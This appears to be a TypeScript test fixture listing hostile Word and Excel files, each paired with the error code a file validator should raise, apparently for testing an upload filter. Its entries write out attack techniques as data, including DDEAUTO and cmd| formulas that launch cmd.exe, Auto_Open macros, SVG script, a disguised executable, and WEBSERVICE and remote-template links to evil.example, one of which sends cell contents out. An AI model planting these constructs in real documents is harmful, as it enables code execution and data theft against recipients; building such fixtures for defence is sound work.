import { docx, ofDocument, type Parts, relationship, relationships, SHEET, WORD, xlsx } from './office-bytes.js';

/** A field of Word, its code in pieces. */
const field = (...pieces: readonly string[]): string =>
  `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${pieces.map((piece) => `<w:r><w:instrText>${piece}</w:instrText></w:r>`).join('')}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;
const formula = (text: string): Buffer => xlsx(`<row r="1"><c r="A1"><f>${text}</f><v>0</v></c></row>`);
const typed = (name: string, type: string): string => `<Override PartName="/${name}" ContentType="${type}"/>`;
const ofWorkbook = (...all: readonly string[]): Parts => ({
  'xl/_rels/workbook.xml.rels': relationships(relationship('worksheet', 'worksheets/sheet1.xml'), ...all),
});
const MS = 'application/vnd.ms-office';
const SPREADSHEET = 'application/vnd.openxmlformats-officedocument.spreadsheetml';

/** A hostile file of Word or Excel: what it is, the code that it is refused for, and its bytes. */
export type HostileOffice = readonly [what: string, code: string, bytes: () => Buffer];

/** Files of Word and Excel that do more than show. */
export const ACTIVE_OFFICE: readonly HostileOffice[] = [
  [
    'with a project of macros',
    'file.office_macro',
    () =>
      docx(undefined, {
        types: typed('word/vbaProject.bin', `${MS}.vbaProject`),
        parts: { 'word/vbaProject.bin': 'x', ...ofDocument(relationship('vbaProject', 'vbaProject.bin')) },
      }),
  ],
  [
    'that is of macros by its type',
    'file.office_macro',
    () => xlsx(undefined, { main: 'application/vnd.ms-excel.sheet.macroEnabled.main+xml' }),
  ],
  [
    'with a sheet of macros of old',
    'file.office_macro',
    () =>
      xlsx(undefined, {
        types: typed('xl/macrosheets/sheet1.xml', 'application/vnd.ms-excel.macrosheet+xml'),
        parts: { 'xl/macrosheets/sheet1.xml': '<a/>' },
      }),
  ],
  [
    'that begins to work when it is opened',
    'file.office_macro',
    () =>
      xlsx(undefined, {
        parts: {
          'xl/workbook.xml': `<workbook xmlns="${SHEET}"><definedNames><definedName name="_xlnm.Auto_Open">A!$A$1</definedName></definedNames></workbook>`,
        },
      }),
  ],
  [
    'with an add-in',
    'file.office_macro',
    () =>
      xlsx(undefined, {
        types: typed('xl/webextensions/we1.xml', `${MS}.webextension+xml`),
        parts: { 'xl/webextensions/we1.xml': '<a/>' },
      }),
  ],
  [
    'with a drawing that holds a script',
    'file.office_macro',
    () =>
      docx(undefined, {
        types: '<Default Extension="svg" ContentType="image/svg+xml"/>',
        parts: { 'word/media/image1.svg': '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>' },
      }),
  ],
  [
    'with a drawing that acts by itself',
    'file.office_macro',
    () =>
      docx(undefined, {
        types: '<Default Extension="svg" ContentType="image/svg+xml"/>',
        parts: { 'word/media/image1.svg': '<svg onload="alert(1)"/>' },
      }),
  ],
  [
    'with a style of its data that runs',
    'file.office_macro',
    () =>
      docx(undefined, {
        parts: {
          'customXml/item1.xml':
            '<stylesheet xmlns:m="urn:schemas-microsoft-com:xslt"><m:script>x</m:script></stylesheet>',
        },
      }),
  ],
  [
    'with an embedded object',
    'file.office_object',
    () =>
      docx(undefined, {
        types: typed('word/embeddings/oleObject1.bin', 'application/vnd.openxmlformats-officedocument.oleObject'),
        parts: { 'word/embeddings/oleObject1.bin': 'x' },
      }),
  ],
  [
    'with a control',
    'file.office_object',
    () =>
      xlsx(undefined, {
        types: typed('xl/activeX/activeX1.xml', `${MS}.activeX+xml`),
        parts: { 'xl/activeX/activeX1.xml': '<a/>' },
      }),
  ],
  [
    'with a program of a type of its own',
    'file.office_object',
    () =>
      docx(undefined, {
        types: '<Default Extension="exe" ContentType="application/octet-stream"/>',
        parts: { 'word/run.exe': 'MZ' },
      }),
  ],
  ['with a part that has no type', 'file.office_object', () => docx(undefined, { parts: { 'word/other.dat': 'x' } })],
  [
    'with a program that is called a picture',
    'file.office_object',
    () => docx(undefined, { parts: { 'word/media/image1.png': 'MZ\x90\0\x03\0\0\0' } }),
  ],
  [
    'with a page that is read in',
    'file.office_object',
    () => docx('<w:altChunk r:id="raFChunk"/>', { parts: ofDocument(relationship('aFChunk', 'page.html')) }),
  ],
  [
    'with a template from elsewhere',
    'file.office_external',
    () =>
      docx(undefined, {
        parts: {
          'word/_rels/settings.xml.rels': relationships(
            relationship('attachedTemplate', 'https://evil.example/t.dotm', 'External'),
          ),
        },
      }),
  ],
  [
    'with a picture from elsewhere',
    'file.office_external',
    () => docx(undefined, { parts: ofDocument(relationship('image', 'https://evil.example/x.png', 'External')) }),
  ],
  [
    'with a picture from elsewhere that is called its own',
    'file.office_external',
    () => docx(undefined, { parts: ofDocument(relationship('image', 'https://evil.example/x.png')) }),
  ],
  [
    'with a drawing from elsewhere',
    'file.office_external',
    () => docx('<w:p><w:pict><v:imagedata xmlns:v="v" src="\\\\evil.example\\x.png"/></w:pict></w:p>'),
  ],
  [
    'with a link to a folder on the net',
    'file.office_external',
    () => docx(undefined, { parts: ofDocument(relationship('hyperlink', 'file://evil.example/share/x', 'External')) }),
  ],
  [
    'with a link to another workbook',
    'file.office_external',
    () =>
      xlsx(undefined, {
        types: typed('xl/externalLinks/externalLink1.xml', `${SPREADSHEET}.externalLink+xml`),
        parts: { 'xl/externalLinks/externalLink1.xml': '<externalLink/>' },
      }),
  ],
  [
    'with a connection to data',
    'file.office_external',
    () =>
      xlsx(undefined, {
        types: typed('xl/connections.xml', `${SPREADSHEET}.connections+xml`),
        parts: {
          'xl/connections.xml': '<connections/>',
          ...ofWorkbook(relationship('connections', 'connections.xml')),
        },
      }),
  ],
  [
    'that merges data from elsewhere',
    'file.office_external',
    () =>
      docx(undefined, {
        parts: {
          'word/settings.xml': `<w:settings xmlns:w="${WORD}"><w:mailMerge><w:connectString w:val="Provider=x"/></w:mailMerge></w:settings>`,
        },
      }),
  ],
  [
    'with a link in a formula to a folder on the net',
    'file.office_external',
    () => formula('HYPERLINK("\\\\evil.example\\x","open")'),
  ],
  ['that asks another program', 'file.office_field', () => docx(field('DDEAUTO c:\\\\cmd.exe "/k calc"'))],
  ['that asks another program in pieces', 'file.office_field', () => docx(field('DD', 'EAUTO x y'))],
  [
    'that asks another program in numbers',
    'file.office_field',
    () =>
      docx(
        `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${field('QUOTE 68 68 69 65 85 84 79')}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`,
      ),
  ],
  [
    'that takes a file in',
    'file.office_field',
    () => docx('<w:p><w:fldSimple w:instr=" INCLUDETEXT https://evil.example/x "/></w:p>'),
  ],
  ['with a formula that asks another program', 'file.office_field', () => formula("cmd|'/C calc'!A0")],
  [
    'with a formula that fetches',
    'file.office_field',
    () => formula('_xlfn.WEBSERVICE("https://evil.example/?"&amp;A2)'),
  ],
  [
    'with a formula that fetches, written as it is',
    'file.office_field',
    () => formula('<![CDATA[WEBSERVICE("https://evil.example/")]]>'),
  ],
];
